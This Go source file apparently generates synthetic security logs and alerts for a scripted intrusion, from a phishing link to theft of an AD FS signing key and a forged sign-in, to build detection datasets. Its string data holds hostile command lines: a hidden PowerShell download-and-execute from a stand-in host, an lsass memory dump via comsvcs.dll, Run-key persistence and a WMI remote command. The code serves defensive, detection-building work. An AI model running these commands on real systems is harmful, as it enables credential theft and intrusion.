package sample

import (
	"strconv"

	"lockstep/schema"
	"lockstep/source"
)

const (
	minute = schema.Minute
	second = schema.Second
)

// tell begins a story.
func (s *script) tell(name, title, about string) {
	s.story = &Story{Name: name, Title: title, About: about}
	s.truth.Stories = append(s.truth.Stories, s.story)
	s.dice = roll(s.w.seed, name, 0)
}

func (s *script) step(text string) { s.story.Steps = append(s.story.Steps, text) }

// pattern notes what rules can find in the rows.
func (s *script) pattern(name, table string, rows int, about string) {
	s.truth.Patterns = append(s.truth.Patterns, Pattern{Name: name, Table: table, Story: s.story.Name, Rows: rows, About: about})
}

// phishing tells how a link in a mail led to the key that signs the company's
// tokens: initial access, credential theft, lateral movement, AD FS.
func (s *script) phishing() {
	s.tell("adfs", "From a phishing mail to the AD FS signing key",
		"A mail with a link, a loader, stolen credentials, two hops to the federation server, its key, and a token made with it.")
	c, w := s.w.company, s.w
	victim, admin, helper, chief := c.byRole["first victim"], c.byRole["domain admin"], c.byRole["help desk"], c.byRole["finance chief"]
	pc, mgmt, adfs, dc := victim.device, c.byHost["tbk-mgmt-01"], c.byHost["tbk-adfs-01"], c.byHost["tbk-dc-01"]
	if !pc.windows() {
		pc = w.desks[3]
	}
	t := s.moment(0.60, 9, 12)
	const lure, control, controlIP, loginIP = "https://quotes.beamline-supplies.example/q/7731", "cdn.beamline-supplies.example", "198.19.77.14", "198.19.212.40"

	s.step("a supplier's stolen mailbox sends a quotation with a link to three engineers")
	var caught *mail
	for i, to := range []*person{victim, c.people[27], c.people[38]} {
		m := s.deliver(mail{at: t + schema.Ticks(i)*second, from: "sales@beamline-supplies.example", fromName: "Beamline Supplies", fromDomain: "beamline-supplies.example", senderIP: "198.19.76.3",
			to: to, subject: "Quotation 7731, valid this week", direction: "Inbound", delivery: "Delivered", location: "Inbox/folder", url: lure})
		if i == 0 {
			caught = m
		}
	}
	s.step("one of them follows the link and opens the image that it offers")
	click := t + 14*minute
	s.put("UrlClickEvents", click, func(l *line) { w.clickRow(l, caught, victim, lure, victim.seenFrom(click), "ClickAllowed", true) })
	s.raise(finding{product: officeMail, title: "A potentially malicious URL click was detected", about: "A user followed a link that is now known to be malicious.", category: "InitialAccess", severity: "high",
		techniques: []string{"T1566.002"}, first: click, last: click, shapes: []source.Shape{source.Graph, source.SecurityAlert}, repeated: true,
		evidence: []piece{{mail: caught}, {mailbox: victim, impacted: true}, {url: lure, verdict: "malicious"}, {person: victim, role: "compromised", impacted: true}},
		progress: []step{{after: 40 * minute, status: "inProgress", more: &piece{url: "https://" + control + "/"}}}})
	s.raise(finding{product: officeMail, title: "Email messages containing malicious URL removed after delivery", about: "Messages with a link that turned out to be malicious were taken out of mailboxes.", category: "InitialAccess",
		severity: "informational", techniques: []string{"T1566.002"}, first: t, last: click + 25*minute, evidence: []piece{{mail: caught}, {mailbox: victim, impacted: true}, {url: lure, verdict: "malicious"}}})
	s.put("EmailPostDeliveryEvents", click+25*minute, func(l *line) { w.postDeliveryRow(l, caught, "Phish ZAP") })

	explorer := s.run(t, pc, victim, nil, w.programs["explorer.exe"], `C:\Windows\Explorer.EXE`)
	edge := s.run(click+5*second, pc, victim, explorer, w.programs["msedge.exe"], `"msedge.exe" --single-argument `+lure)
	image := newDiskFile(`C:\Users\`+victim.account+`\Downloads\Quotation_7731.iso`, "lure")
	image.origin = lure
	s.write(click+40*second, edge, "FileCreated", &image)
	loader := newDiskFile(`E:\viewer.dll`, "lure")
	shell := s.run(click+3*minute, pc, victim, explorer, w.programs["rundll32.exe"], `"rundll32.exe" E:\viewer.dll,OpenQuote`)
	s.put("DeviceImageLoadEvents", click+3*minute+second, func(l *line) { w.imageRow(l, shell, &loader, s.report()) })
	encoded := s.run(click+4*minute, pc, victim, shell, w.programs["powershell.exe"], `powershell.exe -nop -w hidden -EncodedCommand SQBuAHYAbwBrAGUALQBSAGUAcwB0AE0AZQB0AGgAbwBkAA==`)
	s.deviceEvent(click+4*minute+2*second, encoded, "PowerShellCommand", `{"Command":"Invoke-RestMethod https://`+control+`/b | Invoke-Expression"}`)
	for k := range 18 {
		s.connect(click+5*minute+schema.Ticks(k)*4*minute, encoded, controlIP, control, 443)
	}
	s.put("DeviceRegistryEvents", click+7*minute, func(l *line) {
		w.registryRow(l, encoded, "RegistryValueSet", `HKEY_CURRENT_USER\SOFTWARE\Microsoft\Windows\CurrentVersion\Run`, "String", "QuoteViewer", `rundll32.exe C:\Users\Public\viewer.dll,OpenQuote`, s.report())
	})
	s.pattern("run key with rundll32", "DeviceRegistryEvents", 1, "a Run value that starts rundll32 from a user's folder")
	s.pattern("beacon", "DeviceNetworkEvents", 18, "powershell.exe connecting to one address every four minutes")
	s.raise(finding{product: endpoint, title: "Suspicious PowerShell command line", about: "PowerShell was started hidden, with an encoded command, by a program that usually doesn't start it.", category: "Execution", severity: "medium",
		techniques: []string{"T1059.001", "T1027"}, first: encoded.created, last: encoded.created + 2*minute,
		evidence: []piece{{device: pc, impacted: true, role: "compromised"}, {person: victim, impacted: true}, {process: encoded}, {process: shell}, {url: "https://" + control + "/b"}}})
	s.raise(finding{product: endpoint, title: "Suspicious process injection observed", about: "A process wrote into the memory of another one and started a thread in it.", category: "DefenseEvasion", severity: "medium",
		techniques: []string{"T1055", "T1218.011"}, first: shell.created, last: encoded.created, evidence: []piece{{device: pc, impacted: true}, {process: shell}, {file: &loader, verdict: "malicious"}, {ip: controlIP, role: "commandAndControl"}}})
	s.deviceEvent(click+6*minute, shell, "CreateRemoteThreadApiCall", `{"TargetProcess":"explorer.exe"}`)

	s.step("credentials are read from memory; those of the help desk are among them")
	theft := click + 62*minute
	dump := s.run(theft, pc, c.system, encoded, w.programs["rundll32.exe"], `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 812 C:\Windows\Temp\d.bin full`)
	s.deviceEvent(theft+second, dump, "OpenProcessApiCall", `{"DesiredAccess":2097151,"TargetProcess":"lsass.exe"}`)
	dumped := newDiskFile(`C:\Windows\Temp\d.bin`, "dump")
	s.write(theft+3*second, dump, "FileCreated", &dumped)
	s.pattern("lsass dump by comsvcs", "DeviceProcessEvents", 1, "rundll32 comsvcs.dll MiniDump")
	s.raise(finding{product: endpoint, title: "Sensitive credential memory read", about: "The memory of the process that keeps credentials was read and written to a file.", category: "CredentialAccess", severity: "high",
		techniques: []string{"T1003.001"}, first: theft, last: theft + 3*second, evidence: []piece{{device: pc, impacted: true}, {person: victim, impacted: true}, {process: dump}, {file: &dumped}},
		progress: []step{{after: 3 * schema.Hour, status: "inProgress"}}})
	s.raise(finding{product: antivirus, title: "A credential theft tool was prevented from running", about: "Antivirus stopped a tool that takes credentials.", category: "CredentialAccess", severity: "low", threat: "HackTool:Win32/Sample.A",
		techniques: []string{"T1003.001"}, first: theft - 6*minute, last: theft - 6*minute, evidence: []piece{{device: pc, impacted: true}, {file: ptr(newDiskFile(`C:\Users\Public\kt.exe`, "tool")), verdict: "malicious"}}})
	s.put("DeviceEvents", theft-6*minute, func(l *line) {
		w.deviceEventRow(l, encoded, "AntivirusDetection", `"FileName":"kt.exe","FolderPath":"C:\\Users\\Public",`, `{"ThreatName":"HackTool:Win32/Sample.A","WasRemediated":true}`, s.report())
	})

	s.step("the directory is searched for servers and for accounts with service names")
	for k := range 12 {
		at := theft + 20*minute + schema.Ticks(k)*3*second
		s.put("IdentityQueryEvents", at, func(l *line) {
			w.identityQueryRow(l, "LDAP query", "AllComputers", "corp.tarnbeck.example", "(&(objectClass=computer)(servicePrincipalName=*))", victim, pc, dc, s.dice.next(), s.dice.next())
		})
	}
	s.raise(finding{product: identity, title: "Security principal reconnaissance (LDAP)", about: "An account searched the directory in a way that prepares an attack on service accounts.", category: "Discovery", severity: "medium",
		techniques: []string{"T1087.002", "T1558.003"}, first: theft + 20*minute, last: theft + 21*minute, evidence: []piece{{person: victim, role: "source", impacted: true}, {device: pc, role: "source", impacted: true}, {device: dc, role: "destination"}}})

	s.step("with the help desk's account to the management server, with the domain admin's to the federation server")
	hop := theft + 75*minute
	s.logon(hop, mgmt, logon{action: "LogonSuccess", kind: "Network", protocol: "Ntlm", who: helper, from: pc})
	s.put("IdentityLogonEvents", hop, func(l *line) {
		w.identityLogonRow(l, "LogonSuccess", "Active Directory", "Credentials validation", "Ntlm", "", helper, site{}, pc, mgmt, s.dice.next(), s.dice.next())
	})
	remote := s.run(hop+10*second, mgmt, helper, nil, w.programs["WmiPrvSE.exe"], "wmiprvse.exe -secured -Embedding")
	planted := s.run(hop+12*second, mgmt, helper, remote, w.programs["cmd.exe"], `cmd.exe /Q /c rundll32.exe C:\Windows\Temp\viewer.dll,OpenQuote 1> \\127.0.0.1\ADMIN$\__1 2>&1`)
	s.connect(hop+20*second, planted, controlIP, control, 443)
	s.raise(finding{product: endpoint, title: "Suspicious remote activity through WMI", about: "A command was run over WMI from another device, its output kept in an administrative share.", category: "LateralMovement", severity: "medium",
		techniques: []string{"T1047"}, first: hop, last: hop + 12*second, evidence: []piece{{device: mgmt, impacted: true, role: "destination"}, {device: pc, role: "source"}, {person: helper, impacted: true}, {process: planted}, {process: remote}}})
	landed := hop + 95*minute
	s.logon(landed, adfs, logon{action: "LogonSuccess", kind: "Network", protocol: "Kerberos", who: admin, from: mgmt, admin: true})
	s.put("IdentityLogonEvents", landed, func(l *line) {
		w.identityLogonRow(l, "LogonSuccess", "Active Directory", "Resource access", "Kerberos", "", admin, site{}, mgmt, adfs, s.dice.next(), s.dice.next())
	})
	service := s.tool(`C:\Windows\QVSVC.exe`, "", "")
	installed := s.run(landed+4*second, adfs, c.system, nil, service, `C:\Windows\QVSVC.exe`)
	s.put("DeviceEvents", landed+3*second, func(l *line) {
		w.deviceEventRow(l, installed, "ServiceInstalled", `"FileName":"QVSVC.exe","FolderPath":"C:\\Windows",`, `{"ServiceName":"QVSVC","ServiceStartType":3,"ServiceAccount":"LocalSystem"}`, s.report())
	})
	s.raise(finding{product: identity, title: "Suspicious service creation", about: "An account created a service that runs a program on a sensitive server.", category: "Execution", severity: "medium",
		techniques: []string{"T1569.002"}, first: landed, last: landed + 4*second, evidence: []piece{{person: admin, role: "source", impacted: true}, {device: mgmt, role: "source"}, {device: adfs, role: "destination", impacted: true}}})
	s.raise(finding{product: endpoint, title: "Suspicious service launched", about: "A new, unsigned service was started on a server.", category: "LateralMovement", severity: "medium",
		techniques: []string{"T1569.002", "T1021.002"}, first: landed + 3*second, last: landed + 4*second, evidence: []piece{{device: adfs, impacted: true}, {process: installed}, {person: admin}}})

	s.step("the key of the federation service is read from its database and from the directory")
	keyed := landed + 12*minute
	export := s.run(keyed, adfs, c.byRole["svc-adfs"], installed, w.programs["powershell.exe"], `powershell.exe -nop -File C:\Windows\Temp\x.ps1 -Pipe \\.\pipe\microsoft##wid\tsql\query`)
	s.deviceEvent(keyed+2*second, export, "NamedPipeEvent", `{"PipeName":"\\Device\\NamedPipe\\MICROSOFT##WID\\tsql\\query","FileOperation":"File opened"}`)
	pfx := newDiskFile(`C:\Windows\Temp\token.pfx`, "key")
	s.write(keyed+20*second, export, "FileCreated", &pfx)
	s.put("IdentityDirectoryEvents", keyed+9*second, func(l *line) {
		w.directoryRow(l, "ADFS DKM property read", c.byRole["svc-adfs"], nil, adfs, `{"Count":"1","ACTOR.DEVICE":"TBK-ADFS-01"}`, s.dice.next(), s.dice.next())
	})
	s.pattern("AD FS key read", "IdentityDirectoryEvents", 1, "the DKM property read by something other than the service itself")
	s.raise(finding{product: identity, title: "Suspected AD FS DKM key read", about: "The object that protects the federation service's keys was read.", category: "CredentialAccess", severity: "high",
		techniques: []string{"T1552.004"}, first: keyed + 9*second, last: keyed + 9*second, evidence: []piece{{device: adfs, role: "source", impacted: true}, {person: c.byRole["svc-adfs"], impacted: true}, {device: dc, role: "destination"}}})
	s.raise(finding{product: endpoint, title: "AD FS private key extraction attempt", about: "A process opened the configuration database of the federation service and wrote a key file.", category: "CredentialAccess", severity: "high",
		techniques: []string{"T1552.004"}, first: keyed, last: keyed + 20*second, evidence: []piece{{device: adfs, impacted: true, role: "compromised"}, {process: export}, {file: &pfx}, {person: c.byRole["svc-adfs"], impacted: true}},
		progress: []step{{after: 5 * schema.Hour, status: "inProgress"}, {after: 20 * schema.Hour, status: "resolved"}}})

	s.step("a token made with the key signs in as the finance chief and gives an application new credentials")
	forged := keyed + 3*schema.Hour
	from := site{ip: loginIP, city: "Rotterdam", state: "Zuid-Holland", country: "NL", carrier: "Harbour Hosting"}
	in := s.signin(forged, signin{who: chief, app: applications[4], site: from, client: "Browser", risk: "high", riskType: "unfamiliarFeatures", mfa: true})
	s.pattern("federated sign-in without its trace", "SigninLogs", 1, "a risky sign-in of a federated account, with no logon at the federation server beside it")
	app := &oauthApp{name: "Tarnbeck Archive Sync", appID: s.dice.guid(), objectID: s.dice.guid()}
	s.audit(forged+8*minute, audit{operation: "Add service principal credentials", category: "ApplicationManagement", service: "Core Directory", by: chief, ip: loginIP, target: app.name, targetType: "ServicePrincipal", targetID: app.objectID,
		changes: `[{"displayName":"KeyDescription","oldValue":"[]","newValue":"[\"[KeyType=Password,KeyUsage=Verify]\"]"}]`})
	s.audit(forged+11*minute, audit{operation: "Add app role assignment to service principal", category: "ApplicationManagement", service: "Core Directory", by: chief, ip: loginIP, target: "Microsoft Graph", targetType: "ServicePrincipal", targetID: app.objectID,
		changes: `[{"displayName":"AppRole.Value","oldValue":null,"newValue":"\"Mail.Read\""}]`})
	s.pattern("credentials added to an application", "AuditLogs", 1, "by somebody who never did so before")
	s.pattern("mail permission granted to an application", "AuditLogs", 1, "Mail.Read as an application role")
	s.cloud(forged+8*minute, "Add service principal credentials.", chief, applications[5], from, app.name, `"AppId":"`+app.appID+`"`, true)
	s.raise(finding{product: protection, title: "Unfamiliar sign-in properties", about: "A sign-in with properties that this account never had.", category: "InitialAccess", severity: "high", techniques: []string{"T1078.004"}, first: forged, last: forged,
		evidence: []piece{{person: chief, impacted: true}, {signin: in}, {ip: loginIP, role: "attacker"}}})
	s.raise(finding{product: cloudApps, title: "Unusual addition of credentials to an OAuth app", about: "An account added credentials to an application, which it had never done.", category: "Persistence", severity: "medium", techniques: []string{"T1098.001"},
		first: forged + 8*minute, last: forged + 11*minute, evidence: []piece{{person: chief, impacted: true}, {oauth: app}, {app: &applications[5], impacted: true}, {ip: loginIP, role: "attacker"}}})
	s.raise(finding{product: defender, title: "Possible use of a forged federation token", about: "A sign-in with a token that no federation server issued followed the theft of a signing key.", category: "CredentialAccess", severity: "high", techniques: []string{"T1606.002"},
		first: keyed, last: forged + 11*minute, evidence: []piece{{person: chief, impacted: true, role: "compromised"}, {device: adfs, impacted: true}, {ip: loginIP, role: "attacker"}, {oauth: app}}})
	s.step("the application reads mail for a day")
	for k := range 30 {
		s.cloud(forged+schema.Ticks(20+k*9)*minute, "MailItemsAccessed", chief, applications[0], from, "Inbox", `"OperationCount":`+strconv.Itoa(40+k), false)
	}
}

func ptr[T any](v T) *T { return &v }
